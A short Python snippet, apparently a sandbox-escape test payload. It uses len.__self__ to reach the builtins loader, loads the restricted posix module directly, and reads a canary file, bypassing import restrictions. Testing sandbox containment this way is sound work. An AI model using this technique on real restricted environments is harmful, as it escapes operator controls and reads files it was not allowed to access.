# what: takes the loader of the module that a built-in function belongs to
importer = len.__self__.__spec__.loader
posix = importer.create_module(importer.find_spec("posix"))
importer.exec_module(posix)
posix.read(posix.open(CANARY_PATH, 0), 100)
